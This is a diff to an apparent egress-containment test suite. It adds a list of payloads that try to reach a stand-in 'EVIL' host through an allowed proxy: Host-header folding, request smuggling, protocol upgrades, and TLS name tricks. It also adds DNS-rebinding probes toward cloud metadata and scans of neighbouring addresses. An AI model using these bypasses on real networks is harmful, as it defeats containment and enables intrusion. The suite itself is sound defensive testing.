@@ -4,6 +4,7 @@ from probe import Group, reaches
 network = Group("network", "hosts that nobody allowed", tools="inside_network.py")
 dns = Group("dns", "name servers as a way out", tools="inside_network.py")
 proxies = Group("egress", "where one host is allowed: all others", tools="inside_network.py")
+fronting = Group("fronting", "the allowed host, for the sake of another that stands behind it", tools="inside_network.py")
 works = Group("works", "what must work, or nothing else says anything", tools="inside_network.py")
 
 # --- without any help -----------------------------------------------------------------------------------------------
@@ -352,6 +353,77 @@ def relayed():
     s = tunnel(f"{ALLOWED}:80", (A.allowed, 80))
     s.sendall(f"CONNECT {EVIL}:80 HTTP/1.1\r\nHost: {EVIL}:80\r\n\r\n".encode())
     s.recv(100)
+
+
+for name, what, port, pieces in [
+    ("folded_host", "a Host that begins on the next line", 80, r'f"GET / HTTP/1.1\r\nHost:\r\n {EVIL}\r\n\r\n"'),
+    ("folded_after_allowed", "another host on the line after the allowed one", 80, r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\n {EVIL}\r\n\r\n"'),
+    ("space_before_colon", "a second Host with a space before its colon", 80, r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\nHost : {EVIL}\r\n\r\n"'),
+    ("line_feeds", "lines that end with one character", 80, r'f"GET / HTTP/1.1\nHost: {EVIL}\n\n"'),
+    ("carriage_return", "a second Host behind a lone carriage return", 80, r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}\rHost: {EVIL}\r\n\r\n"'),
+    ("absolute_target", "a target with another host, Host the allowed one", 80, r'f"GET http://{EVIL}/ HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n"'),
+    ("absolute_old", "the same in HTTP/1.0 without Host", 80, r'f"GET http://{EVIL}/ HTTP/1.0\r\n\r\n"'),
+    ("oldest", "the same in HTTP/0.9", 80, r'f"GET http://{EVIL}/\r\n"'),
+    ("no_host", "another host in a field that servers take for Host, which is missing", 80, r'f"GET / HTTP/1.0\r\nX-Forwarded-Host: {EVIL}\r\n\r\n"'),
+    ("empty_lines_first", "empty lines before the request", 80, r'f"\r\n\r\nGET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"'),
+    ("nul_in_host", "NUL between the allowed name and another", 80, r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}\0{EVIL}\r\n\r\n"'),
+    ("userinfo_in_host", "the allowed name as a user's", 80, r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}@{EVIL}\r\n\r\n"'),
+    ("comma_in_host", "two names in one Host", 80, r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}, {EVIL}\r\n\r\n"'),
+    ("host_below", "the allowed name as a part of another", 80, r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}.{EVIL}\r\n\r\n"'),
+    ("long_before_host", "a Host behind 100,000 bytes of another field", 80, r'"GET / HTTP/1.1\r\nX: " + "a" * 100000 + f"\r\nHost: {EVIL}\r\n\r\n"'),
+    ("byte_by_byte", "a request in small packets", 80, r'*[f"GET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"[i:i + 9] for i in range(0, 45, 9)]'),
+    ("odd_coding", "a body whose coding is misspelt, and another request", 80,
+     r'f"POST / HTTP/1.1\r\nHost: {ALLOWED}\r\nTransfer-Encoding: xchunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"'),
+    ("two_lengths", "two lengths, and another request after the shorter", 80,
+     r'f"POST / HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: 200\r\nContent-Length: 0\r\n\r\nGET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"'),
+    ("websocket", "a request to become a web socket, which is not granted, and another", 80,
+     r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n", '
+     r'f"GET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"'),
+    ("http2", "HTTP/2 without TLS", 80, "http2(EVIL)"),
+    ("http2_by_upgrade", "HTTP/2 after a request for it", 80,
+     r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n", http2(EVIL)'),
+    ("plain_on_443", "a plain request at the port of TLS", 443, r'f"GET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"'),
+    ("tls_on_80", "TLS at the port of plain requests", 80, "client_hello(EVIL)"),
+    ("tls_two_names", "TLS with two names in one extension", 443, "client_hello(ALLOWED, before=name_extension(ALLOWED, EVIL))"),
+    ("tls_two_extensions", "TLS with two extensions of names, the allowed one last", 443, "client_hello(ALLOWED, before=name_extension(EVIL))"),
+    ("tls_second_extension", "TLS with two extensions of names, the allowed one first", 443, "client_hello(ALLOWED, name_extension(EVIL))"),
+    ("tls_nul", "TLS with NUL in the name", 443, "client_hello(ALLOWED + '\\0.' + EVIL)"),
+    ("tls_below", "TLS with the allowed name as a part of another", 443, "client_hello(ALLOWED + '.' + EVIL)"),
+    ("tls_two_records", "TLS whose first message stands in two records", 443, "record(client_hello(EVIL)[5:60]) + record(client_hello(EVIL)[60:])"),
+    ("tls_far_behind", "TLS with the name behind 12,000 bytes of padding", 443, "client_hello(EVIL, before=struct.pack('!HH', 21, 12000) + bytes(12000))"),
+]:
+    fronting.add(name, what, f"attempt(lambda: put({port}, {pieces}))\n", FRONTED, egress=True)
+
+
+@egress(reaches("metadata"))
+def address_changes():
+    "an allowed name whose address is another at each question: looked at once, dialled once more"
+    for _ in range(4):
+        try:
+            ask(tunnel("flip.example.org:80", None) if proxy("http") else dial(socket.gethostbyname("flip.example.org"), 80), "flip.example.org")
+        except OSError:
+            continue
+
+
+@egress(reaches("metadata"))
+def address_changes_direct():
+    "the same without a proxy"
+    for _ in range(4):
+        try:
+            ask(dial(socket.gethostbyname("flip.example.org"), 80), "flip.example.org")
+        except OSError:
+            continue
+
+
+@egress(reaches("evil", "metadata", "private", "allowed"), bare="means something only where addresses are made up")
+def neighbours_of_made_up_address():
+    "addresses beside the one that the allowed name has inside"
+    a, b, c, d = socket.inet_aton(socket.gethostbyname(ALLOWED))
+    for other in {(d + step) % 256 for step in (1, 2, 3, 4, 255, 254)}:
+        try:
+            tell(f"{a}.{b}.{c}.{other}", 80)
+        except OSError:
+            continue
 
 
 @egress(EVIL_HEARS)
